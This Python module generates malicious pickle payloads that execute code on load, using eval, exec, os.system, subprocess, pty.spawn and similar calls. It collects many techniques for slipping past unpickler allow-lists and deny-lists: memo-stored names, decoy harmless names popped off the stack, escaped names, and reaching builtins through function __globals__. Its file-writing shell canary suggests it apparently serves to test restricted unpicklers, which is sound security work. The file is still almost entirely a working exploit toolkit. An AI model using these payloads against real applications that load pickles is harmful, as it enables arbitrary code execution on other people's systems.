"""Pickles that run code when loaded, assembled opcode by opcode (see the standard library's `pickletools`)."""

from __future__ import annotations

import builtins
import importlib
import re
import struct
from collections.abc import Iterable


def reduce(source: str, protocol: int = 4) -> bytes:
    """A pickle that evaluates the expression by `builtins.eval`."""
    return _start(protocol) + _call(_name("builtins", "eval", protocol), _text(source, protocol)) + b"."


def payloads(
    source: str, path: str, product: str, helper: str = "", allowed: Iterable[str] = ()
) -> dict[str, bytes]:
    """Named pickles; a name tells the road, and so the kind of allow-list or deny-list that it is made for.

    `helper` is a module whose import is an effect; `allowed` are words that the unpickler may allow as names.
    """
    text = _text(source)
    evaluate = _name("builtins", "eval")
    shell = f"echo $(({product}))>{path}"
    imported = _call(_name("builtins", "__import__"), _text("builtins"))
    found = {f"eval, protocol {protocol}": reduce(source, protocol) for protocol in range(6)}
    found |= {
        "exec": _call(_name("builtins", "exec"), _text(source)),
        "getattr of an import": _call(_call(_name("builtins", "getattr"), imported, _text("eval")), text),
        "os.system": _call(_name("os", "system"), _text(shell)),
        "posix.system": _call(_name("posix", "system"), _text(shell)),
        "subprocess": _call(_name("subprocess", "getoutput"), _text(shell)),
        "inst opcode": b"(V" + source.encode("raw-unicode-escape") + b"\nibuiltins\neval\n",
        "obj opcode": b"(cbuiltins\neval\n" + text + b"o",
        "partial": _call(_call(_name("functools", "partial"), evaluate, text)),
        "operator": _by_operator("functools", "total_ordering", text),
        "operator and collections": _by_operator("collections", "namedtuple", text),
        "methodcaller": _by_method(text),
        "compiled": _call(_name("runpy", "_run_code"), _call(_name("builtins", "compile"), text, *_EVALUATED), b"}"),
        "timed": _call(_name("timeit", "timeit"), _text("pass"), text),
        "within a list": b"](" + _call(evaluate, text) + b"e",
        "within a dictionary": b"}(" + _text("user") + _call(evaluate, text) + b"u",
        "as a key": b"}(" + _call(evaluate, text) + _text("user") + b"u",
        "build": _name("builtins", "Exception") + b")R}(" + _text("x") + _call(evaluate, text) + b"ub",
        "popped, then plain data": _call(evaluate, text) + b"0}(" + _text("user") + _text("ada") + b"u",
        "a pickle within": _call(_name("pickle", "loads"), _bytes(_start(4) + _call(evaluate, text) + b".")),
        "names from the memo": _by_memo(text),
        "escaped names": b"V\\u0062uiltins\nV\\u0065val\n\x93" + b"(" + text + b"tR",
        "behind plain data": b"}." + _start(4) + _call(evaluate, text),
        "profiled": _call(_name("cProfile", "run"), text),
    }
    found |= _by_opcodes(text) | _by_other_modules(text, shell)
    harmless = _harmless(allowed)
    for pair in harmless[:2]:
        found |= {f"{'.'.join(pair)}, {how}": name + text + b"\x85R" for how, name in _behind(*pair).items()}
    for module, name in harmless:
        found[f"from {module}.{name}"] = _by_object(module, name, text)
    if helper:
        found["runpy.run_module"] = _call(_name("runpy", "run_module"), _text(helper))
        # Early, for who looks a name up before he asks whether it is allowed.
        imports = {f"a module's {name}": _name(helper, name) for name in ("dict", "run", "x")}
        first = [*found][:8]
        found = {name: found[name] for name in first} | imports | found
    for module in ("collections", "datetime", "decimal", "solution", "__main__"):
        found[f"dotted name in {module}"] = _call(_call(_name(module, "__builtins__.get"), _text("eval")), text)
    made = {name: data if name.startswith("eval,") else _start(4) + data + b"." for name, data in found.items()}
    return made | {"module name of Python 2": _start(2) + b"c__builtin__\neval\n" + text + b"\x85R."}


def calling(own: bytes, hole: str, module: str, name: str, *arguments: str | float | bytes) -> bytes:
    """A pickle, with the result of a call in place of the short text `hole`; in the notation of its protocol."""
    protocol = own[1] if own[:1] == b"\x80" else 0
    return _put(own, hole, _call(_name(module, name, protocol), *map(_plain, arguments)))


def naming(own: bytes, module: str, name: str, hole: str = "") -> bytes:
    """A pickle of protocol 4 that names something in place of the short text `hole`, or in front, thrown away."""
    named = _name(module, name)
    return _put(own, hole, named) if hole else _start(4) + named + b"0" + own


def setting(module: str, name: str) -> dict[str, bytes]:
    """Pickles that set attributes of what a name stands for, such as the defaults of a function."""
    pair = b"(" + _text("1") + _text("2") + b"t"
    values = {
        "__defaults__": {"none": b")", "one": b"]\x85", "pairs": b"](" + pair + b"e\x85", "number": b"K\x01\x85"},
        "__kwdefaults__": {"none": b"}", "null": b"N"},
        "__init__": {"null": b"N"},
        "__new__": {"null": b"N"},
    }
    return {
        f"{attribute} of {module}.{name}: {what}": _start(4)
        + (_name(module, name) + b"N}" + _text(attribute) + value + b"s\x86b.")
        for attribute, kinds in values.items()
        for what, value in kinds.items()
    }


def _put(own: bytes, hole: str, opcodes: bytes) -> bytes:
    text = hole.encode()
    written = (b"\x8c" + bytes([len(text)]) + text, b"X" + struct.pack("<I", len(text)) + text, b"V" + text + b"\n")
    own = _unframed(own)
    for one in written:
        own = own.replace(one, opcodes)
    return own


def _unframed(data: bytes) -> bytes:
    """The same without the length of what follows, which a longer text would break."""
    return data[:2] + data[11:] if data[2:3] == b"\x95" else data


def _by_operator(module: str, function: str, text: bytes) -> bytes:
    """Only `operator` and a harmless module are named: a function's globals hold the builtins."""
    names = _call(_call(_name("operator", "attrgetter"), _text("__globals__")), _name(module, function))
    builtins = _call(_name("operator", "getitem"), names, _text("__builtins__"))
    return _call(_call(_name("operator", "getitem"), builtins, _text("eval")), text)


def _by_opcodes(text: bytes) -> dict[str, bytes]:
    """Each opcode that names something with each that calls it; `map` and `tuple` call by their `__new__` alone."""
    namings = {"STACK_GLOBAL": _name, "GLOBAL": lambda module, name: _name(module, name, 2)}
    found = {}
    for named, naming in namings.items():
        evaluate, mapped, made = (naming("builtins", name) for name in ("eval", "map", "tuple"))
        lazily = b"(" + evaluate + b"(" + text + b"tt"
        found[f"{named} and REDUCE"] = evaluate + text + b"\x85R"
        found[f"{named} and OBJ"] = b"(" + evaluate + text + b"o"
        found[f"{named} and NEWOBJ"] = made + mapped + lazily + b"\x81\x85\x81"
        found[f"{named} and NEWOBJ_EX"] = made + mapped + lazily + b"}\x92\x85}\x92"
        found[f"{named} and a class"] = _call(made, _call(mapped, evaluate, b"(" + text + b"t"))
    return found | {"INST": b"(" + text + b"ibuiltins\neval\n"}


def _behind(module: str, name: str) -> dict[str, bytes]:
    """`eval` for those who take the last two strings for its name: a harmless pair stands there, and is taken away."""
    evil, first, last = _text("builtins") + _text("eval"), _text(module), _text(name)
    return {
        "popped one by one": evil + first + b"0" + last + b"0\x93",
        "popped together": evil + first + last + b"00\x93",
        "popped to a mark": evil + b"(" + first + last + b"1\x93",
        "popped as a pair": evil + first + last + b"\x860\x93",
    }


def _by_other_modules(text: bytes, shell: str) -> dict[str, bytes]:
    """What lists of forbidden modules and functions forget."""
    words = [_text(word) for word in ("/bin/sh", "-c", shell)]
    run = b"(" + b"".join(words) + b"l"
    interpreter = _call(_name("code", "InteractiveInterpreter"))
    return {
        "os.popen": _call(_name("os", "_wrap_close.close"), _call(_name("os", "popen"), words[2])),
        "subprocess.call": _call(_name("subprocess", "call"), run),
        "subprocess.Popen": _call(_name("subprocess", "Popen.wait"), _call(_name("subprocess", "Popen"), run)),
        "subprocess.check_output": _call(_name("subprocess", "check_output"), run),
        "pydoc.locate": _call(_call(_name("pydoc", "locate"), _text("builtins.eval")), text),
        "pkgutil.resolve_name": _call(_call(_name("pkgutil", "resolve_name"), _text("builtins:eval")), text),
        "subprocess.run": _call(_name("subprocess", "run"), run),
        "os.spawnv": _call(_name("os", "spawnv"), b"K\x00", words[0], run),
        "pty.spawn": _call(_name("pty", "spawn"), run),
        "profile.run": _call(_name("profile", "run"), text),
        "an interpreter": _call(_name("code", "InteractiveInterpreter.runsource"), interpreter, text),
        "a debugger": _call(_name("bdb", "Bdb.runeval"), _call(_name("bdb", "Bdb")), text),
        "operator.call": _call(_name("operator", "call"), _name("builtins", "eval"), text),
        "_pickle": _call(_name("_pickle", "loads"), _bytes(_start(4) + _call(_name("builtins", "eval"), text) + b".")),
    }


#: Where programs take the names from that they allow, and the names that most of them do.
_MODULES = ("builtins", "collections", "datetime", "decimal", "fractions", "uuid", "pathlib", "copyreg", "_codecs")
_ALLOWED = ("dict", "list", "str", "int")
_MOST_HARMLESS = 12


def _harmless(words: Iterable[str]) -> list[tuple[str, str]]:
    """Modules and names, known to this Python, that stand in the words; then those of `_ALLOWED`."""
    parts = dict.fromkeys(part for word in words for part in re.findall(r"\w+", word)[:20])
    modules = [importlib.import_module(part) for part in parts if part in _MODULES] or [builtins]
    pairs = [(one.__name__, name) for name in parts for one in modules if isinstance(getattr(one, name, None), type)]
    return list(dict.fromkeys([*pairs[:_MOST_HARMLESS], *(("builtins", name) for name in _ALLOWED)]))


def _by_object(module: str, name: str, text: bytes) -> bytes:
    """Only dotted names below one harmless class: `object` is its class's base, and leads to a function's globals."""
    get = _name(module, f"{name}.__class__.__base__.__getattribute__")
    parts = _call(_name(module, f"{name}.__class__.__base__.__reduce_ex__"), _text("x"), b"K\x02")

    def item(container: bytes, key: bytes) -> bytes:
        return _call(_call(get, container, _text("__getitem__")), key)

    names = _call(get, item(parts, b"K\x00"), _text("__globals__"))
    return _call(item(item(names, _text("__builtins__")), _text("eval")), text)


def _by_memo(text: bytes) -> bytes:
    """Both names are remembered first, and a harmless pair stands in front of the opcode that takes them."""
    remembered = _text("builtins") + b"\x940" + _text("eval") + b"\x940" + _text("collections") + b"0"
    return remembered + _text("OrderedDict") + b"0h\x00h\x01\x93(" + text + b"tR"


def _plain(value: str | float | bytes) -> bytes:
    if isinstance(value, bytes):
        return _bytes(value)
    if isinstance(value, int):
        return b"J" + struct.pack("<i", value)
    return _text(value) if isinstance(value, str) else b"G" + struct.pack(">d", value)


#: Calls that give plain values, as no text of theirs holds them: module, name, arguments, and what comes of them.
PLAIN_CALLS = (
    ("_codecs", "encode", ("uryybkryl", "rot13"), "helloxely"),
    ("codecs", "encode", ("uryybkryl", "rot13"), "helloxely"),
    ("_codecs", "decode", ("uryybkryl", "rot13"), "helloxely"),
    ("_codecs", "encode", ("\u20ac5", "cp1252"), b"\x805"),
    ("builtins", "str.title", ("linden kxelf",), "Linden Kxelf"),
    ("builtins", "str.upper", ("kxelf",), "KXELF"),
    ("builtins", "bytes.fromhex", ("6b78656c66",), b"kxelf"),
    ("builtins", "int", ("20917",), 20917),
    ("builtins", "float", ("20917.5",), 20917.5),
    ("builtins", "str", (20917,), "20917"),
    ("builtins", "len", ("kxelf" * 9,), 45),
    ("builtins", "hex", (20917,), "0x51b5"),
    ("builtins", "chr", (20917,), "\u51b5"),
    ("builtins", "abs", (-20917,), 20917),
    ("builtins", "pow", (3, 11), 177147),
    ("os.path", "basename", ("x/kxelf-2",), "kxelf-2"),
    ("operator", "add", (20917, 4), 20921),
    ("base64", "b64decode", ("a3hlbGY=",), b"kxelf"),
    ("binascii", "unhexlify", ("6b78656c66",), b"kxelf"),
    ("json", "loads", ("[20917]",), [20917]),
)


def _bytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def _by_method(text: bytes) -> bytes:
    """`operator.methodcaller("eval", source)(builtins)`."""
    module = _call(_name("importlib", "import_module"), _text("builtins"))
    return _call(_call(_name("operator", "methodcaller"), _text("eval"), text), module)


def _start(protocol: int) -> bytes:
    return b"\x80" + bytes([protocol]) if protocol >= 2 else b""


def _text(text: str, protocol: int = 4) -> bytes:
    if protocol == 0:
        return b"V" + text.encode("raw-unicode-escape").replace(b"\n", b"\\u000a") + b"\n"
    data = text.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def _name(module: str, name: str, protocol: int = 4) -> bytes:
    if protocol < 4:
        return b"c" + f"{module}\n{name}\n".encode()
    return _text(module) + _text(name) + b"\x93"


def _call(function: bytes, *arguments: bytes) -> bytes:
    return function + b"(" + b"".join(arguments) + b"tR"


_EVALUATED = (_text("x"), _text("eval"))
